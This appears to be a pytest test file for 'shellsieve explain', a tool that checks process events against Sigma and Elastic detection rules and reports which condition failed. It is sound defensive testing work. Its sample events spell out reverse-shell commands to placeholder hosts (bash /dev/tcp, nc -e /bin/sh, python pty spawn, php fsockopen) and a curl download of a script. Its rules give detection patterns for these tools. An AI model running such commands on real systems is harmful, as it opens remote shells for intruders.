"""`shellsieve explain`: the verdict agrees with `run`, and a failed rule names its failing condition."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conftest import PATTERNS, ROOT, PYTHON_PTY, REVERSE_SHELL_SEQUENCE, RULESETS, WEB_SERVER_CHILD, rule_ids
from conftest import PAYLOAD_RULES
from format_samples import WRITERS, Exec
from shellsieve.cli import build, main
from shellsieve.compile.ruleset import Ruleset
from shellsieve.explain.command import choose, explain
from shellsieve.run.engine import Engine
from shellsieve.settings import Settings
from test_seeds import (
    BRANCHES,
    EQL_PARENTS,
    KQL_PARENTS,
    RECON,
    TESTED_PAYLOAD,
    WEB_IMAGES,
    cmdline,
    exec_of,
    net,
    plain_parent,
    proc,
    python_payload,
    web_child,
    web_shell,
    win,
)

# ---------------------------------------------------------------------------------------------------------------
# Helpers: explain as a tool reads it (--json), and `run` on the same bytes.
# ---------------------------------------------------------------------------------------------------------------


def _bytes(event: Any) -> bytes:
    if isinstance(event, bytes):
        return event
    if isinstance(event, list):
        return b"".join(line + b"\n" for line in event)
    return msgspec.json.encode(event) + b"\n"


def explained(ruleset: Ruleset, event: Any, rules: Iterable[str] = (), settings: Settings = Settings()  # noqa: B008  frozen
              ) -> dict[str, Any]:
    """explain --json on one event; `rules`: --rule ids."""
    chosen = choose(ruleset, [], list(rules))
    return msgspec.json.decode(explain(ruleset, settings, _bytes(event), "event", chosen, as_json=True))


def matched(doc: dict[str, Any]) -> set[str]:
    return {r["id"] for r in doc["rules"] if r["verdict"] == "matched"}


def run_ids(ruleset: Ruleset, event: Any, settings: Settings = Settings()) -> set[str]:  # noqa: B008  frozen
    """The rule ids `run` alerts on for the same bytes (the engine run_filter drives)."""
    engine = Engine(ruleset, settings)
    stream = engine.stream()
    out = stream.feed(_bytes(event), 0.0) + stream.close(0.0) + engine.finish()
    return {rid for line in out.splitlines() for rid in rule_ids(msgspec.json.decode(line))}


def rule_of(doc: dict[str, Any], rid: str) -> dict[str, Any]:
    (r,) = [r for r in doc["rules"] if r["id"] == rid]
    return r


# ---------------------------------------------------------------------------------------------------------------
# Agreement with `run`.
# ---------------------------------------------------------------------------------------------------------------

PY_EXEC = Exec(args=("python", "-c", python_payload().split(" ", 2)[2].strip("'")), exe="/usr/bin/python3")

SEED_EVENTS: list[Any] = [
    cmdline(TESTED_PAYLOAD, "python"),
    *(cmdline(python_payload(i, imports, target), i) for i in ("python", "python3")
      for imports in ("socket,os,pty", "separate") for target in ("getenv", "literal")),
    cmdline("python -c 'import socket,os;s=socket.socket()'", "python"),  # no dup2, no pty: a miss
    cmdline("""php -r '$s=fsockopen("10.10.10.10",9001);'""", "php"),
    cmdline("php -r 'echo fsockopen;'", "php"),
    *(web_shell(parent=p) for p in KQL_PARENTS),
    web_shell(parent="sshd"),
    *(web_child(process__parent__name=p) for p in EQL_PARENTS[:4]),
    web_child(), plain_parent(), plain_parent(user__name="www-data"),
    *(win(image, cmd) for image in WEB_IMAGES[:4] for cmd in RECON[:3]),
    win("C:\\Windows\\explorer.exe", "perl -h"),
    *(exec_of(args) for args in BRANCHES.values()),
    proc(), net(),
    b"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    *(WRITERS[fmt](PY_EXEC) for fmt in ("ecs", "auditd", "sysmon-syslog", "wazuh-audit", "wazuh-command",
                                        "cmdline")),
]


class TestAgreement:
    def test_shipped_rules_on_seed_events(self, shipped: Ruleset) -> None:
        """On every seed event, explain says "matched" for exactly the rules `run` alerts on."""
        alerted = 0
        for event in SEED_EVENTS:
            expected = run_ids(shipped, event)
            assert matched(explained(shipped, event)) == expected, event
            alerted += bool(expected)
        assert alerted >= 20  # the comparison is not vacuous

    @pytest.mark.parametrize("name", ["events.ndjson", "sysmon.ndjson", "cmdline.log"])
    def test_shipped_examples(self, shipped: Ruleset, name: str) -> None:
        """Each line of the shipped examples: explain's "matched" is what `run` alerts on."""
        lines = (ROOT / "examples" / name).read_bytes().splitlines()
        for line in lines:
            assert matched(explained(shipped, line)) == run_ids(shipped, line), line
        assert any(run_ids(shipped, line) for line in lines)

    def test_rules_asked_for_agree_too(self, shipped: Ruleset) -> None:
        """With every shipped rule asked for by --rule, "matched" is still exactly what `run` alerts on."""
        every = sorted({cr.rule.id for cr in shipped.rules})
        for event in SEED_EVENTS[:12]:
            doc = explained(shipped, event, every)
            assert {r["id"] for r in doc["rules"]} == set(every)
            assert matched(doc) == run_ids(shipped, event)

    def test_public_collections_on_a_few_events(self, public: Ruleset) -> None:
        """The public Sigma and Elastic Linux collections: explain agrees with `run` on a few events."""
        events = [exec_of(args) for args in list(BRANCHES.values())[:8]]
        events += [web_child(), web_shell(parent="apache2"), proc(), net(),
                   exec_of(["bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"]),
                   exec_of(["curl", "http://10.1.2.3/x.sh", "-o", "/tmp/x.sh"]),
                   exec_of(["base64", "-d", "/tmp/p"], process__parent__name="sh")]
        nc = Exec(args=("nc", "-e", "/bin/sh", "10.1.2.3", "4444"), exe="/usr/bin/nc")
        events += [WRITERS[fmt](nc) for fmt in ("auditd", "sysmon-syslog", "wazuh-audit", "cmdline")]
        alerted = 0
        for event in events:
            expected = run_ids(public, event)
            assert matched(explained(public, event)) == expected, event
            alerted += bool(expected)
        assert alerted >= 3


@pytest.fixture(scope="module")
def public() -> Ruleset:
    """The public Sigma Linux process-creation rules and Elastic Linux rules, compiled once."""
    if not RULESETS.is_dir():
        pytest.skip(f"{RULESETS} is absent: the shared public rulesets are not checked out next to the repo")
    _, ruleset, _ = build([RULESETS / "sigma" / "linux" / "process_creation", RULESETS / "elastic" / "linux"])
    return ruleset


# ---------------------------------------------------------------------------------------------------------------
# One failing condition per operator kind.
# ---------------------------------------------------------------------------------------------------------------

RULES = {
    "eq": "sel:\n    Image: /usr/bin/curl\n  condition: sel",
    "list": "sel:\n    ParentImage|endswith:\n      - /apache2\n      - /nginx\n      - /httpd\n  condition: sel",
    "glob": "sel:\n    CommandLine: '/bin/*sh -i*'\n  condition: sel",
    "regex": "sel:\n    CommandLine|re: 'nc\\s+-e\\s'\n  condition: sel",
    "cidr": "sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel",
    "numeric": "sel:\n    DestinationPort|gt: 1024\n  condition: sel",
    "exists": "sel:\n    Image|endswith: /socat\n    User|exists: true\n  condition: sel",
    "logic": ("sel_a:\n    Image|endswith: /bash\n  sel_b:\n    CommandLine|contains: /dev/tcp/\n"
              "  filter:\n    ParentImage|endswith: /sshd\n  condition: 1 of sel_* and not filter"),
}
IDS = {name: f"00000000-0000-0000-0000-00000000000{i}" for i, name in enumerate(RULES, 1)}
EVENT = {"process": {"executable": "/bin/bash", "name": "bash", "command_line": "/bin/bash -i >& /dev/tcp/10.1.2.3/4",
                     "parent": {"executable": "/usr/sbin/sshd"}},
         "destination": {"ip": "192.168.1.1", "port": 80}}


@pytest.fixture(scope="module")
def rules_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("explain_rules")
    for name, detection in RULES.items():
        (d / f"{name}.yml").write_text(f"title: {name}\nid: {IDS[name]}\nstatus: test\nlevel: high\n"
                                       f"logsource: {{service: test}}\ndetection:\n  {detection}\n")
    return d


@pytest.fixture(scope="module")
def ops(rules_dir: Path) -> Ruleset:
    _, ruleset, diags = build([rules_dir])
    assert not [d for d in diags if d.severity == "error"]
    assert len(ruleset.rules) == len(RULES)
    return ruleset


def failed(ruleset: Ruleset, name: str, event: dict[str, Any] = EVENT) -> dict[str, Any]:
    r = rule_of(explained(ruleset, event, [IDS[name]]), IDS[name])
    assert r["verdict"] != "matched" and r["held"] is False
    return r["failed"]  # type: ignore[no-any-return]


class TestFailingCondition:
    def test_equals(self, ops: Ruleset) -> None:
        """Equality names the field, the event's value and the value the rule states."""
        f = failed(ops, "eq")
        assert f["condition"] == 'process.executable: "/bin/bash" is not "/usr/bin/curl"'
        assert (f["field"], f["op"], f["value"], f["expected"]) == (
            "process.executable", "eq", "/bin/bash", ["/usr/bin/curl"])

    def test_list_membership(self, ops: Ruleset) -> None:
        """A list of values reads "any of [...]" and lists them as the rule does."""
        f = failed(ops, "list")
        assert f["condition"] == ('process.parent.executable: "/usr/sbin/sshd" does not end with any of '
                                  '["/apache2", "/nginx", "/httpd"]')
        assert f["expected"] == ["/apache2", "/nginx", "/httpd"]

    def test_wildcard(self, ops: Ruleset) -> None:
        """A glob fails with its pattern as written."""
        f = failed(ops, "glob", {"process": {"command_line": "/bin/sh -c id"}})
        assert f["condition"] == 'process.command_line: "/bin/sh -c id" does not match "/bin/*sh -i*"'

    def test_glob_that_holds_matches(self, ops: Ruleset) -> None:
        """The same glob on a command line it covers: matched, no failed condition."""
        r = rule_of(explained(ops, EVENT, [IDS["glob"]]), IDS["glob"])
        assert (r["verdict"], r["failed"]) == ("matched", None)

    def test_regex(self, ops: Ruleset) -> None:
        """A regex is shown as written: backslashes are not doubled in text."""
        f = failed(ops, "regex")
        assert f["op"] == "regex"
        assert f["condition"].endswith('does not match regex "nc\\s+-e\\s"')

    def test_cidr(self, ops: Ruleset) -> None:
        f = failed(ops, "cidr")
        assert f["condition"] == 'destination.ip: "192.168.1.1" is not in "10.0.0.0/8"'

    def test_numeric(self, ops: Ruleset) -> None:
        f = failed(ops, "numeric")
        assert f["condition"] == "destination.port: 80 is not > 1024"
        assert f["value"] == 80

    def test_missing_field_and_exists(self, ops: Ruleset) -> None:
        """A missing field reads (missing); `exists` fails as "does not exist"."""
        assert failed(ops, "eq", {"process": {"name": "x"}})["condition"] == (
            'process.executable: (missing) is not "/usr/bin/curl"')
        f = failed(ops, "exists", {"process": {"executable": "/usr/bin/socat"}})
        assert (f["op"], f["held"]) == ("exists", False)
        assert f["condition"].endswith("does not exist")

    def test_not_names_the_excluding_condition(self, ops: Ruleset) -> None:
        """`1 of sel_* and not filter`: the filter held, so the failure is the filter under `not`."""
        f = failed(ops, "logic")
        assert list(f) == ["not"]
        (inner,) = f["not"]
        assert inner["held"] is True
        assert inner["condition"] == 'process.parent.executable: "/usr/sbin/sshd" ends with "/sshd"'

    def test_or_lists_every_alternative(self, ops: Ruleset) -> None:
        """`1 of sel_*` where neither holds: each alternative's failure, under none_of."""
        f = failed(ops, "logic", {"process": {"executable": "/bin/sh", "command_line": "id"}})
        assert [c["field"] for c in f["none_of"]] == ["process.executable", "process.command_line"]

    def test_text_output(self, ops: Ruleset) -> None:
        """Human output: id and name, file:line, the verdict, the failing condition."""
        text = explain(ops, Settings(), _bytes(EVENT), "event", choose(ops, [], [IDS["list"], IDS["glob"]]),
                       as_json=False)
        assert f"{IDS['list']}  list" in text
        assert "list.yml:1  (sigma)" in text
        assert "  MATCHED" in text
        assert ('    process.parent.executable: "/usr/sbin/sshd" does not end with any of '
                '["/apache2", "/nginx", "/httpd"]') in text

    def test_values_are_printed_safely(self, ops: Ruleset) -> None:
        """Control characters of the event's value are escaped in the text output."""
        ev = {"process": {"executable": "/bin/\x1b[31mbash"}}
        text = explain(ops, Settings(), _bytes(ev), "event", choose(ops, [], [IDS["eq"]]), as_json=False)
        assert "\x1b" not in text and "\\x1b[31mbash" in text


# ---------------------------------------------------------------------------------------------------------------
# Sequences, formats, JSON, bad input.
# ---------------------------------------------------------------------------------------------------------------


class TestSequence:
    def test_first_step_event(self, shipped: Ruleset) -> None:
        """A reverse-shell exec satisfies step 1 of the sequence only; it is not matched by one event."""
        r = rule_of(explained(shipped, exec_of(BRANCHES["nc"]), [REVERSE_SHELL_SEQUENCE]), REVERSE_SHELL_SEQUENCE)
        assert r["verdict"] == "not matched" and r["matched"] is False
        assert [(s["step"], s["held"]) for s in r["steps"]] == [("1", True), ("2", False)]
        assert r["steps"][1]["failed"] is not None

    def test_network_event_satisfies_step_two(self, shipped: Ruleset) -> None:
        r = rule_of(explained(shipped, net(), [REVERSE_SHELL_SEQUENCE]), REVERSE_SHELL_SEQUENCE)
        assert [(s["step"], s["held"]) for s in r["steps"]] == [("1", False), ("2", True)]
        text = explain(shipped, Settings(), _bytes(net()), "event", choose(shipped, [], [REVERSE_SHELL_SEQUENCE]),
                       as_json=False)
        assert "this event satisfies step 2\n" in text


class TestFormats:
    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog", "wazuh-audit", "wazuh-command", "cmdline"])
    def test_every_linux_format(self, shipped: Ruleset, fmt: str) -> None:
        """The python pty payload in each Linux input format: explained as that format, matched as run does."""
        doc = explained(shipped, WRITERS[fmt](PY_EXEC))
        assert doc["format"] == ("wazuh" if fmt.startswith("wazuh") else fmt)
        assert matched(doc) - PAYLOAD_RULES == {PYTHON_PTY}  # the issue-24 interpreter rule may match too

    def test_pretty_printed_json(self, shipped: Ruleset) -> None:
        """An event pretty-printed over several lines is read as the one JSON line run would get."""
        pretty = msgspec.json.format(msgspec.json.encode(web_child()), indent=2)
        doc = explained(shipped, pretty)
        assert matched(doc) == {WEB_SERVER_CHILD} and doc["event"]["process"]["name"] == "whoami"

    def test_shipper_envelope(self, shipped: Ruleset) -> None:
        """A Vector envelope carrying a command line is unwrapped as run unwraps it."""
        line = msgspec.json.encode({"message": python_payload(), "host": "h"})
        both = matched(explained(shipped, line))
        assert both == run_ids(shipped, line) and both - PAYLOAD_RULES == {PYTHON_PTY}


class TestJson:
    def test_structure(self, ops: Ruleset) -> None:
        """One document: format, the event as the rules read it, and per rule its verdict and failure."""
        doc = explained(ops, EVENT)
        assert set(doc) == {"format", "event", "rules"}
        assert doc["format"] == "ecs" and doc["event"] == EVENT
        # the rules whose anchors fired, and those without anchors (checked on every event)
        assert {r["id"] for r in doc["rules"]} == {IDS[n] for n in ("glob", "logic", "cidr", "numeric")}
        for r in doc["rules"]:
            assert set(r) == {"id", "name", "ruleset", "file", "line", "verdict", "matched", "anchors", "held",
                              "failed"}
        assert rule_of(doc, IDS["glob"])["matched"] is True

    def test_anchors_did_not_fire(self, ops: Ruleset) -> None:
        """A rule asked for whose anchors did not fire says so, and still names its failing condition."""
        r = rule_of(explained(ops, EVENT, [IDS["eq"]]), IDS["eq"])
        assert (r["verdict"], r["anchors"]) == ("anchors did not fire", False)
        assert r["failed"]["field"] == "process.executable"


class TestCli:
    def test_text(self, rules_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        ev = tmp_path / "ev.json"
        ev.write_bytes(_bytes(EVENT))
        assert main(["explain", "--no-cache", "--rules", str(rules_dir), str(ev)]) == 0
        out = capsys.readouterr().out
        assert out.startswith("event read as ecs; 4 rules explained")

    def test_json(self, rules_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        ev = tmp_path / "ev.txt"
        ev.write_text("nc -e /bin/sh 10.1.2.3 4444\n")
        assert main(["explain", "--no-cache", "--rules", str(rules_dir), "--json", "--input-format", "cmdline",
                     "--rule", IDS["regex"], str(ev)]) == 0
        doc = msgspec.json.decode(capsys.readouterr().out)
        assert doc["format"] == "cmdline" and matched(doc) == {IDS["regex"]}

    @pytest.mark.parametrize("content, args, message", [
        (b"", [], "ev: no event"),
        (b"\n\n", [], "ev: no event"),
        (b"ls\nid\n", [], "2 events"),
        (b"ls\n", ["--rule", "no-such-id"], "--rule no-such-id: no such rule"),
        (b"ls\n", ["--include-rule", "no-such-id"], "no-such-id"),
    ])
    def test_bad_input(self, rules_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                       content: bytes, args: list[str], message: str) -> None:
        """No event, several events, an unknown rule id: a clear error naming it, exit 2."""
        ev = tmp_path / "ev"
        ev.write_bytes(content)
        assert main(["explain", "--no-cache", "--rules", str(rules_dir), *args, str(ev)]) == 2
        captured = capsys.readouterr()
        assert message in captured.err and captured.out == ""

    def test_unreadable_file(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        assert main(["explain", "--rules", str(PATTERNS), str(tmp_path / "absent.json")]) == 2
        assert "absent.json: cannot read the event" in capsys.readouterr().err

    def test_skipped_rule_says_why(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """--rule naming a rule the compiler skipped says it was skipped, where and why."""
        rid = "00000000-0000-0000-0000-00000000000b"
        (tmp_path / "bad.yml").write_text(f"title: bad\nid: {rid}\nlogsource: {{service: test}}\n"
                                          "detection:\n  sel:\n    Com\"line: x\n  condition: sel\n")
        ev = tmp_path / "ev"
        ev.write_text("ls\n")
        assert main(["explain", "--no-cache", "--rules", str(tmp_path / "bad.yml"), "--rule", rid, str(ev)]) == 2
        err = capsys.readouterr().err
        assert f"--rule {rid}: no such rule (skipped: " in err
        assert "bad.yml:1" in err and "Com\"line" in err
